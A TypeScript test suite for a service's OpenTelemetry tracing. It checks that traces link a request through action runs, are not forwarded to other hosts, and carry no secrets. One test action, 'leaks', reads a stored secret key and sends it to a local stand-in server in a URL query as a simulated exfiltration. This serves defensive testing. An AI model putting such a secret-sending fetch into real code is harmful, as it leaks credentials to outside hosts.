/**
 * Tests traces with a collector in this process. One trace must lead from the request through the run and its browser to the requests of
 * the action.
 */
import { createServer, type IncomingHttpHeaders } from "node:http";
import type { AddressInfo } from "node:net";
import { expect } from "chai";
import { pino } from "pino";
import { createTracing, NO_TRACING } from "../../src/operations/watch/tracing.js";
import { longTest } from "../harness/samples.js";
import { type OwnService, startTestService } from "../harness/service.js";
import { type CollectedSpan, startTraceCollector, type TraceCollector } from "../harness/trace-collector.js";

const SECRET = "a-secret-of-many-characters";
const CLIENT_TRACE_ID = "0af7651916cd43dd8448eb211c80319c";
const parentOf = (traceId: string) => `00-${traceId}-b7ad6b7169203331-01`;

async function startOtherServer() {
  const received: IncomingHttpHeaders[] = [];
  const server = createServer(({ headers }, response) => {
    received.push(headers);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("hello");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const stop = () => new Promise((resolve) => server.close(resolve).closeAllConnections());
  return { url: `http://127.0.0.1:${port}`, port, heard: received, stop };
}

describe("traces", function () {
  this.timeout(180_000);
  let collector: TraceCollector;
  let stranger: Awaited<ReturnType<typeof startOtherServer>>;
  let service: OwnService;
  const runs: Record<string, number> = {};

  const create = async (name: string, body: string) => {
    const code = `async function execute(context) { ${body} }`;
    const fields = { name, code, active: true, triggers: [{ trigger: "manual" }] };
    expect((await service.rest("POST", "/v3/apps/1/actions", { body: fields })).http).to.equal(201);
  };
  const call = (path: string, as = "editor", traceId = CLIENT_TRACE_ID) =>
    service.rest("POST", `/v3/apps/1/actions/${path}`, { as, body: {}, headers: { traceparent: parentOf(traceId) } });

  before(async () => {
    collector = await startTraceCollector();
    stranger = await startOtherServer();
    service = await startTestService({ OTEL_EXPORTER_OTLP_ENDPOINT: collector.url, ALLOW_PRIVATE_NETWORK: "1" });
    await service.rest("POST", "/v1/apps/1/settings", { body: { __key: SECRET } });
    await create("inner", "return 1");
    await create("outer", "return Svc.App.V3.Actions.runWithResult('inner', {})");
    await create("abroad", `return (await fetch("${stranger.url}/a?b=${"c".repeat(9)}")).text()`);
    const leak = "const { __key: key } = context.settings; console.log(key)";
    const blocked = `await fetch("${stranger.url}/?k=" + key).catch(() => {})`;
    await create("leaks", `${leak}; ${blocked}; throw new Error("it is " + key)`);
    for (const name of ["outer", "abroad", "leaks"]) await call(`${name}/runWithResult`);
    runs["queued"] = (await call("inner/run")).body.runId;
    runs["ofVisitor"] = (await call("inner/runWithResult", "viewer", "1".repeat(32))).body.runId;
    await service.rest("POST", `/v3/apps/1/actions/${SECRET}/runWithResult`, { body: { [SECRET]: SECRET } });
    await service.stopService();
  });
  after(async () => {
    await service.stop();
    await stranger.stop();
    await collector.stop();
  });

  const childrenOf = ({ spanId }: CollectedSpan, name: string) =>
    collector.spans.filter((span) => span.parentSpanId === spanId && span.name === name);
  const requests = () =>
    collector.spans.filter(({ name, parentSpanId }) => name.startsWith("POST ") && parentSpanId === "b7ad6b7169203331");

  it("lead from the request to the run, its browser, the fetch of its action, and requests of that to the service", () => {
    const chains = requests().flatMap((request) =>
      childrenOf(request, "run").flatMap((run) =>
        childrenOf(run, "browser").flatMap((browser) =>
          childrenOf(browser, "fetch").flatMap((fetch) =>
            collector.spans
              .filter((span) => span.parentSpanId === fetch.spanId)
              .map((inside) => ({ request, run, browser, fetch, inside, innerRuns: childrenOf(inside, "run") })),
          ),
        ),
      ),
    );
    const [chain] = chains.filter(({ innerRuns }) => innerRuns.length > 0);
    expect(chain, "a chain through five spans to a run").to.not.equal(undefined);
    const { request, run, fetch, innerRuns } = chain!;
    const spans = [...Object.values(chain!).flat()];
    expect(new Set(spans.map(({ traceId }) => traceId))).to.deep.equal(new Set([CLIENT_TRACE_ID]));
    expect(request.values).to.deep.equal({
      "http.request.method": "POST",
      "http.route": "/v3/apps/:appId/actions/:nameOrId/runWithResult",
      "http.response.status_code": 200,
    });
    expect(run.values).to.include({
      "svc.trigger": "manual",
      "svc.outcome": "completed",
      "svc.mode": "document",
    });
    expect(fetch.values).to.include({ "server.address": "127.0.0.1", "http.response.status_code": 200 });
    expect(innerRuns[0]!.values).to.include({ "svc.outcome": "completed" });
    expect([...collector.paths]).to.deep.equal(["/v1/traces"]);
  });

  it("are not passed on to other hosts by an action's fetch", () => {
    expect(stranger.heard).to.have.length(1);
    expect(stranger.heard[0]).to.not.have.any.keys("traceparent", "tracestate", "baggage");
    const [abroad] = collector.spans.filter(({ values }) => Number(values["server.port"]) === stranger.port);
    expect(abroad?.values).to.include({ "http.request.method": "GET", "http.response.status_code": 200 });
  });

  longTest("have requests of a run that started before its row, in an app without secrets", async () => {
    const first = service;
    const other = await startTraceCollector();
    service = await startTestService({ OTEL_EXPORTER_OTLP_ENDPOINT: other.url, ALLOW_PRIVATE_NETWORK: "1" });
    await create("abroad", `return (await fetch("${stranger.url}/")).text()`);
    for (let turn = 0; turn < 3; turn += 1) await call("abroad/runWithResult");
    await service.stop();
    service = first;
    const spans = other.spans.filter(({ name }) => name === "fetch");
    await other.stop();
    expect(spans.map(({ values }) => values["http.response.status_code"])).to.deep.equal([200, 200, 200]);
  });

  it("include a run that waited in the queue", () => {
    const [run] = collector.spans.filter(
      ({ name, values }) => name === "run" && Number(values["svc.run_id"]) === runs["queued"],
    );
    expect(run?.traceId).to.equal(CLIENT_TRACE_ID);
  });

  it("cannot be chosen by a visitor", () => {
    const [run] = collector.spans.filter(
      ({ name, values }) => name === "run" && Number(values["svc.run_id"]) === runs["ofVisitor"],
    );
    expect(run?.traceId).to.be.a("string").and.not.equal("1".repeat(32));
    expect(collector.texts.join("")).to.not.contain("1".repeat(32));
  });

  it("contain no secret, no payload, no message and no address", () => {
    const all = collector.texts.join("");
    for (const text of [SECRET, "it is", "?b=", "c".repeat(9), "inner", "leaks", service.tokens.editor]) {
      expect(all.includes(text), text).to.equal(false);
    }
    const failed = collector.spans.filter(({ values }) => values["svc.outcome"] === "failed");
    expect(failed.length).to.be.above(0);
  });
});

describe("traces without a configured collector", () => {
  it("are not created", async () => {
    expect(await createTracing(null, "one", pino({ level: "silent" }))).to.equal(NO_TRACING);
    const span = NO_TRACING.beginSpan("run", "internal", parentOf(CLIENT_TRACE_ID), { a: 1 });
    expect(span.traceparent).to.equal(null);
    expect(NO_TRACING.runInSpan(span, () => NO_TRACING.getCurrentTraceparent())).to.equal(null);
  });
});
